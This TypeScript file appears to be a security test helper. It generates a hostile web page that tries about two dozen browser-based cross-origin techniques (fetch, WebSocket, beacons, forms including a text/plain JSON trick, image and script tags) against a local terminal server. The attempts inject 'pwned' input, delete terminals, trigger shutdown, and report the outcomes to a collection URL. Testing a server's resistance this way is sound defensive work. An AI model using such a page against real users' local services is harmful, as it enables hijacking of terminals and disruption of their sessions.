/**
 * A page that tries whatever a browser lets a page try against a server on this machine, and reports what it could read. Pages get no
 * token, so the server it meets is one that asks for none.
 */

export type Attempted = {
  /** Attempts whose answer the script could read, with the beginning of it. */
  readonly readable: readonly (readonly [attempt: string, text: string])[]
  readonly attempts: readonly string[]
}

export type PageOptions = {
  /** URLs of the server; `''` is the page's own origin. */
  readonly bases: readonly string[]
  readonly terminalId: string
  readonly reportUrl: string
  /** Only attempts with these words in their name. */
  readonly only?: string
}

/** Of one base. */
export const attemptCount = 23

export function hostilePage({ bases, terminalId, reportUrl, only = '' }: PageOptions): string {
  return `<!doctype html><title>nothing to see</title><body><script>
const readable = [], attempts = [], waits = []
const pause = (ms) => new Promise((done) => setTimeout(done, ms))
function attempt(name, act) {
  if (!name.includes(${JSON.stringify(only)})) return
  attempts.push(name)
  const late = pause(4000).then(() => undefined)
  waits.push(Promise.race([Promise.resolve().then(act), late]).then((text) => { if (text) readable.push([name, String(text).slice(0, 200)]) }, () => undefined))
}
const read = async (url, init) => { const answer = await fetch(url, init); return answer.type === 'opaque' ? '' : answer.status < 400 ? await answer.text() : '' }
function form(action, enctype, fields) {
  const frame = document.createElement('iframe'); frame.name = 'f' + Math.random(); document.body.append(frame)
  const made = document.createElement('form'); Object.assign(made, { method: 'POST', action, enctype, target: frame.name })
  for (const [name, value] of Object.entries(fields)) { const input = document.createElement('input'); Object.assign(input, { name, value }); made.append(input) }
  document.body.append(made); made.submit()
  return pause(1500).then(() => { try { return frame.contentDocument.body.innerText } catch { return '' } })
}
for (const base of ${JSON.stringify(bases)}) {
  const own = base + '/terminals/${terminalId}'
  const json = JSON.stringify({ message: 'pwned' })
  attempt(base + ' GET by fetch', () => read(base + '/terminals'))
  attempt(base + ' GET by fetch without cors', () => read(base + '/terminals', { mode: 'no-cors' }))
  attempt(base + ' events', () => new Promise((done) => { const s = new EventSource(base + '/events'); s.onmessage = s.onopen = () => { s.close(); done('an open stream') }; s.onerror = () => { s.close(); done('') } }))
  for (const path of ['/events', '/terminals/${terminalId}/ws', '/terminals/${terminalId}/input?message=pwned'])
    attempt(base + ' websocket ' + path, () => new Promise((done) => { const s = new WebSocket((base || location.origin).replace('http', 'ws') + path); s.onopen = () => { s.send('pwned\\r'); done('an open socket') }; s.onerror = () => done('') }))
  attempt(base + ' POST query', () => read(own + '/input?message=pwned', { method: 'POST', mode: 'no-cors' }))
  attempt(base + ' POST text/plain', () => read(own + '/input', { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: json }))
  attempt(base + ' POST json', () => read(own + '/input', { method: 'POST', headers: { 'content-type': 'application/json' }, body: json }))
  attempt(base + ' POST keepalive', () => read(own + '/key?key=Enter', { method: 'POST', mode: 'no-cors', keepalive: true }))
  attempt(base + ' POST no-referrer', () => read(own + '/inbox/messages?message=pwned', { method: 'POST', mode: 'no-cors', referrerPolicy: 'no-referrer' }))
  attempt(base + ' DELETE', () => read(own, { method: 'DELETE' }))
  attempt(base + ' PATCH', () => read(own + '/metadata', { method: 'PATCH', headers: { 'content-type': 'application/json' }, body: '{"metadata":{"pwned":1}}' }))
  attempt(base + ' beacon', () => { navigator.sendBeacon(base + '/shutdown-all', new Blob(['{}'], { type: 'text/plain' })) })
  attempt(base + ' beacon to a session', () => { navigator.sendBeacon(base + '/sessions?agent_profile=developer&provider=scripted') })
  attempt(base + ' form', () => form(own + '/input', 'application/x-www-form-urlencoded', { message: 'pwned' }))
  attempt(base + ' form as text', () => form(own + '/input', 'text/plain', { '{"message":"pwned","x":"': '"}' }))
  attempt(base + ' form with files', () => form(base + '/shutdown-all', 'multipart/form-data', {}))
  for (const path of ['/terminals', '/shutdown-all', '/terminals/${terminalId}/key?key=Enter'])
    attempt(base + ' image ' + path, () => new Promise((done) => { const i = new Image(); i.onload = () => done('an image'); i.onerror = () => done(''); i.src = base + path }))
  attempt(base + ' script', () => new Promise((done) => { const s = document.createElement('script'); s.onload = () => done('a script'); s.onerror = () => done(''); s.src = base + '/terminals'; document.body.append(s) }))
  attempt(base + ' frame', () => new Promise((done) => { const f = document.createElement('iframe'); f.onload = () => { try { done(f.contentDocument.body.innerText) } catch { done('') } }; f.src = base + '/terminals'; document.body.append(f) }))
}
Promise.all(waits).then(() => fetch(${JSON.stringify(reportUrl)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ readable, attempts }) }))
</script>`
}
